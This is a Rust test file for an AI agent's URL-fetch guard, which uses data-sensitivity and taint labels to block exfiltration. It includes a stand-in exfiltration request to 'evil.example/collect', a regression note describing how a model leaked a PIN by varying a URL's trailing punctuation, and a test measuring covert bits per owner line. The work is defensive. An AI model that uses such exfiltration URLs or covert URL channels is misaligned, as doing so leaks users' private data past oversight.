use super::*;
use crate::{READ_FILE, RECALL};

fn owner(text: &str) -> Record {
    Record::User {
        time: "t".into(),
        content: text.into(),
        origin: Origin::Owner,
        matrix: None,
    }
}

fn note(text: &str) -> Record {
    Record::Note {
        time: "t".into(),
        text: text.into(),
    }
}

fn fetch(url: &str) -> String {
    serde_json::json!({ "url": url }).to_string()
}

/// The records a turn writes for call `call` fetching `url`: the answer asking for it,
/// then its result (whose content is the page's, and says nothing about what was asked).
fn fetched(call: u64, url: &str) -> [Record; 2] {
    let id = format!("c{call}");
    [
        Record::Assistant {
            time: "t".into(),
            content: None,
            tool_calls: vec![proto::ToolCall {
                id: id.clone(),
                name: HTTP_FETCH.into(),
                arguments: fetch(url),
            }],
            cut: false,
        },
        Record::ToolResult {
            time: "t".into(),
            call,
            tool_call_id: id,
            name: HTTP_FETCH.into(),
            content: "a page".into(),
            class: DataClass::Public,
            untrusted: true,
        },
    ]
}

const PRIVATE_TAINTED: Label = Label {
    class: DataClass::Private,
    untrusted: true,
};

#[test]
fn a_composed_url_is_refused_when_the_context_is_untrusted_and_private() {
    let records = [owner("what does the page say? https://example.org/a")];
    let refusal = policy(
        HTTP_FETCH,
        &fetch("http://evil.example/collect?d=x"),
        PRIVATE_TAINTED,
        DataClass::Private,
        &records,
    )
    .unwrap_err();
    assert!(refusal.reason().contains("http://evil.example/collect?d=x"));
    assert_eq!(
        refusal.url.as_deref(),
        Some("http://evil.example/collect?d=x")
    );
}

#[test]
fn the_owners_own_url_is_allowed_whatever_the_context() {
    let records = [owner(
        "read <https://example.org/a?b=1>, please, and https://x.org/wiki/Tea_(drink).",
    )];
    for class in DataClass::ALL {
        for untrusted in [false, true] {
            let context = Label::new(class, untrusted);
            for url in [
                "https://example.org/a?b=1",
                "https://x.org/wiki/Tea_(drink)",
            ] {
                let verdict = policy(
                    HTTP_FETCH,
                    &fetch(url),
                    context,
                    DataClass::Private,
                    &records,
                );
                let guarded = untrusted && class >= DataClass::Private;
                let want = if guarded {
                    Allowed::OwnerOnce(url.to_string())
                } else {
                    Allowed::Run
                };
                assert_eq!(verdict, Ok(want), "{url} {context}");
            }
        }
    }
}

#[test]
fn under_the_guard_each_owner_url_is_fetched_once_per_owner_line() {
    let mut records = vec![owner("compare https://x.org/a and (https://x.org/b).")];
    let a = fetch("https://x.org/a");
    assert_eq!(
        policy(
            HTTP_FETCH,
            &a,
            PRIVATE_TAINTED,
            DataClass::Private,
            &records
        ),
        Ok(Allowed::OwnerOnce("https://x.org/a".into()))
    );
    records.extend(fetched(4, "https://x.org/a"));
    let again = policy(
        HTTP_FETCH,
        &a,
        PRIVATE_TAINTED,
        DataClass::Private,
        &records,
    );
    assert!(again.unwrap_err().why.contains("call 4"));
    // Another of the owner's urls is still allowed once.
    assert!(policy(
        HTTP_FETCH,
        &fetch("https://x.org/b"),
        PRIVATE_TAINTED,
        DataClass::Private,
        &records
    )
    .is_ok());
    // Without the guard the bound does not apply.
    assert_eq!(
        policy(
            HTTP_FETCH,
            &a,
            Label::new(DataClass::Private, false),
            DataClass::Private,
            &records
        ),
        Ok(Allowed::Run)
    );
    // The owner's next line allows each once more.
    records.push(owner("again please"));
    assert!(policy(
        HTTP_FETCH,
        &a,
        PRIVATE_TAINTED,
        DataClass::Private,
        &records
    )
    .is_ok());
}

/// Regression: `http://…/a....` in an owner line let the model fetch `/a`, `/a.`,
/// `/a..`, `/a...` or `/a....`, one a line, spelling a PIN in four lines.
#[test]
fn trailing_punctuation_is_not_part_of_an_owners_url() {
    let records = [owner(
        "see (http://h.example/a....) and http://h.example/b?x=1!",
    )];
    for (url, owners) in [
        ("http://h.example/a", true),
        ("http://h.example/a.", false),
        ("http://h.example/a....", false),
        ("http://h.example/a....)", false),
        ("http://h.example/b?x=1", true),
        ("http://h.example/b?x=1!", false),
    ] {
        let verdict = policy(
            HTTP_FETCH,
            &fetch(url),
            PRIVATE_TAINTED,
            DataClass::Private,
            &records,
        );
        assert_eq!(verdict.is_ok(), owners, "{url}: {verdict:?}");
    }
}

#[test]
fn the_forms_of_one_owner_url_are_one_url_for_the_bound() {
    let mut records = vec![owner(
        "see (https://x.org/b). or https://x.org/b#top, HTTPS://x.org/b",
    )];
    records.extend(fetched(2, "https://x.org/b"));
    for form in ["https://x.org/b", "https://x.org/b#top", "HTTPS://x.org/b"] {
        assert!(
            policy(
                HTTP_FETCH,
                &fetch(form),
                PRIVATE_TAINTED,
                DataClass::Private,
                &records
            )
            .is_err(),
            "{form}"
        );
    }
}

/// What the model may ask for beside the owner's token `token`: every prefix of it,
/// it with one or two closing characters more, with a fragment, with the scheme in
/// capitals. A model composing URLs freely gets nothing more from the owner's words.
fn forms_a_model_may_try(token: &str) -> Vec<String> {
    let mut tried: Vec<String> = token
        .char_indices()
        .map(|(at, _)| token[..at].to_string())
        .chain([token.to_string()])
        .collect();
    let closers = ['.', ',', ';', ':', '!', '?', ')', ']', '}', '>', '\'', '"'];
    for a in closers {
        tried.push(format!("{token}{a}"));
        for b in closers {
            tried.push(format!("{token}{a}{b}"));
        }
    }
    let bare = token.trim_end_matches(closers);
    tried.push(format!("{bare}#x"));
    tried.push(bare.replacen("http", "HTTP", 1));
    tried
}

/// Every sequence of requests the guard lets a model make after the owner's last line
/// of `records` (as the servers see them), found by trying every form of every owner
/// token in every order, each allowed fetch recorded as the turn records it.
fn sequences(
    records: &mut Vec<Record>,
    tried: &[String],
    so_far: &mut Vec<String>,
    seen: &mut std::collections::BTreeSet<Vec<String>>,
) {
    seen.insert(so_far.clone());
    for url in tried {
        if let Ok(Allowed::OwnerOnce(url_fetched)) = policy(
            HTTP_FETCH,
            &fetch(url),
            PRIVATE_TAINTED,
            DataClass::Private,
            records,
        ) {
            records.extend(fetched(9, &url_fetched));
            so_far.push(request_of(&url_fetched));
            sequences(records, tried, so_far, seen);
            so_far.pop();
            records.truncate(records.len() - 2);
        }
    }
}

/// The measurement behind docs/labels.md, 'The owner's URLs': how many distinct
/// sequences of requests one owner line lets the model choose from, and so how many
/// bits it can spell per owner line. Run with `--nocapture` for the table.
#[test]
fn one_owner_line_lets_the_model_spell_one_bit_per_owner_url_form_and_order_only() {
    let lines: [(&str, &[&str]); 5] = [
        (
            "one url, four dots after it",
            &["see http://h.example/a...."],
        ),
        ("one url, sentence end", &["read https://h.example/a."]),
        (
            "one url written three ways",
            &["http://h.example/a, http://h.example/a#top (http://h.example/a)"],
        ),
        (
            "two urls",
            &["compare http://h.example/a and http://h.example/b."],
        ),
        (
            "three urls",
            &["http://h.example/a http://h.example/b http://h.example/c!"],
        ),
    ];
    println!("| owner line | distinct requests | request sequences | bits per line |");
    println!("|---|---|---|---|");
    for (what, texts) in lines {
        let mut records: Vec<Record> = texts.iter().map(|t| owner(t)).collect();
        let tried: Vec<String> = texts
            .iter()
            .flat_map(|t| owner_url_tokens(t).collect::<Vec<_>>())
            .flat_map(forms_a_model_may_try)
            .collect();
        let mut seen = std::collections::BTreeSet::new();
        sequences(&mut records, &tried, &mut Vec::new(), &mut seen);
        let requests: std::collections::BTreeSet<&String> = seen.iter().flatten().collect();
        let bits = (seen.len() as f64).log2();
        println!(
            "| {what} | {} | {} | {bits:.2} |",
            requests.len(),
            seen.len()
        );
        // k distinct URLs allow every ordered choice of distinct ones: sum of k!/(k-j)!.
        let k = requests.len() as u64;
        let want: u64 = (0..=k).map(|j| ((k - j + 1)..=k).product::<u64>()).sum();
        assert_eq!(seen.len() as u64, want, "{what}: {seen:?}");
    }
}

/// A page says what it likes: a fetch of `/b` whose page names `/a`, or reads as
/// loopd's own note of a fetch of `/a`, is still a fetch of `/b`.
#[test]
fn a_tool_result_cannot_pose_as_the_record_of_a_fetch() {
    let mut records = vec![owner("https://x.org/a and https://x.org/b")];
    let [asked, mut result] = fetched(1, "https://x.org/b");
    if let Record::ToolResult { content, .. } = &mut result {
        *content = owner_fetch_note(1, "https://x.org/a");
    }
    records.extend([asked, result]);
    let policy_of = |url: &str, records: &[Record]| {
        policy(
            HTTP_FETCH,
            &fetch(url),
            PRIVATE_TAINTED,
            DataClass::Private,
            records,
        )
    };
    assert!(policy_of("https://x.org/a", &records).is_ok());
    assert!(policy_of("https://x.org/b", &records).is_err());
}

/// Regression: the once-per-owner-line bound was read back from the wording of loopd's
/// notes, so a log whose notes were reworded (or written by a version with other words)
/// let the model fetch an owner's URL again. Notes decide nothing now: the bound holds
/// with the notes reworded, removed, or naming another URL.
#[test]
fn the_once_per_owner_line_bound_holds_whatever_the_notes_say() {
    let line = owner("compare https://x.org/a and https://x.org/b");
    let allowed = |records: &[Record], url: &str| {
        policy(
            HTTP_FETCH,
            &fetch(url),
            PRIVATE_TAINTED,
            DataClass::Private,
            records,
        )
        .is_ok()
    };
    let [asked, result] = fetched(3, "https://x.org/a");
    for notes in [
        vec![],
        vec![note("fetched https://x.org/a for the owner (call 3)")],
        vec![note(&owner_fetch_note(3, "https://x.org/b"))],
    ] {
        let mut records = vec![line.clone(), asked.clone(), result.clone()];
        records.extend(notes.clone());
        assert!(!allowed(&records, "https://x.org/a"), "{notes:?}");
        assert!(allowed(&records, "https://x.org/b"), "{notes:?}");
    }
    // And a note alone, with no fetch behind it, bounds nothing.
    let records = [line.clone(), note(&owner_fetch_note(3, "https://x.org/a"))];
    assert!(allowed(&records, "https://x.org/a"));
}

/// The bound counts what was sent: a fetch of the owner's URL made before the context was
/// guarded counts (one fetch per owner line), and a refused call, which sent nothing, does
/// not.
#[test]
fn the_bound_counts_fetches_sent_since_the_owners_line_and_not_refused_calls() {
    let mut records = vec![owner("read https://x.org/a")];
    let a = fetch("https://x.org/a");
    // The first fetch, while the context was still trusted.
    assert_eq!(
        policy(
            HTTP_FETCH,
            &a,
            Label::new(DataClass::Private, false),
            DataClass::Private,
            &records
        ),
        Ok(Allowed::Run)
    );
    records.extend(fetched(1, "https://x.org/a"));
    let again = policy(
        HTTP_FETCH,
        &a,
        PRIVATE_TAINTED,
        DataClass::Private,
        &records,
    );
    assert!(again.unwrap_err().why.contains("call 1"));
    // A refused call of the same url sent nothing.
    let mut refused = vec![owner("read https://x.org/a")];
    refused.extend(fetched(2, "https://x.org/a"));
    refused.push(Record::Refused {
        time: "t".into(),
        call: 2,
        url: "https://x.org/a".into(),
        reason: "refused".into(),
        offered: true,
    });
    assert_eq!(
        policy(
            HTTP_FETCH,
            &a,
            PRIVATE_TAINTED,
            DataClass::Private,
            &refused
        ),
        Ok(Allowed::OwnerOnce("https://x.org/a".into()))
    );
}

#[test]
fn a_prefix_of_the_owners_url_is_not_the_owners_url() {
    let records = [owner("https://example.org/secret-token-123")];
    assert!(policy(
        HTTP_FETCH,
        &fetch("https://example.org/secret"),
        PRIVATE_TAINTED,
        DataClass::Private,
        &records
    )
    .is_err());
}

#[test]
fn heartbeat_text_does_not_choose_urls() {
    let records = [Record::User {
        time: "t".into(),
        content: "https://example.org/".into(),
        origin: Origin::Heartbeat,
        matrix: None,
    }];
    assert!(!is_owner_url("https://example.org/", &records));
}

#[test]
fn a_private_trusted_context_may_fetch_a_composed_url() {
    let context = Label::new(DataClass::Private, false);
    assert_eq!(
        policy(
            HTTP_FETCH,
            &fetch("https://en.wikipedia.org/wiki/Tea"),
            context,
            DataClass::Private,
            &[]
        ),
        Ok(Allowed::Run)
    );
}

#[test]
fn a_public_untrusted_context_may_fetch_below_the_guard_class() {
    assert_eq!(
        policy(
            HTTP_FETCH,
            &fetch("https://example.org/next"),
            Label::new(DataClass::Public, true),
            DataClass::Private,
            &[]
        ),
        Ok(Allowed::Run)
    );
    // A guard class of public guards every untrusted context.
    assert!(policy(
        HTTP_FETCH,
        &fetch("https://example.org/next"),
        Label::new(DataClass::Public, true),
        DataClass::Public,
        &[]
    )
    .is_err());
}

#[test]
fn secret_refuses_every_composed_url_even_trusted() {
    let refusal = policy(
        HTTP_FETCH,
        &fetch("https://example.org/"),
        Label::new(DataClass::Secret, false),
        DataClass::Secret,
        &[],
    )
    .unwrap_err();
    assert!(refusal.why.contains("secret"), "{}", refusal.why);
}

#[test]
fn read_file_and_recall_are_always_allowed() {
    for class in DataClass::ALL {
        let context = Label::new(class, true);
        assert_eq!(
            policy(READ_FILE, "{}", context, DataClass::Public, &[]),
            Ok(Allowed::Run)
        );
        assert_eq!(
            policy(RECALL, "{}", context, DataClass::Public, &[]),
            Ok(Allowed::Run)
        );
    }
}
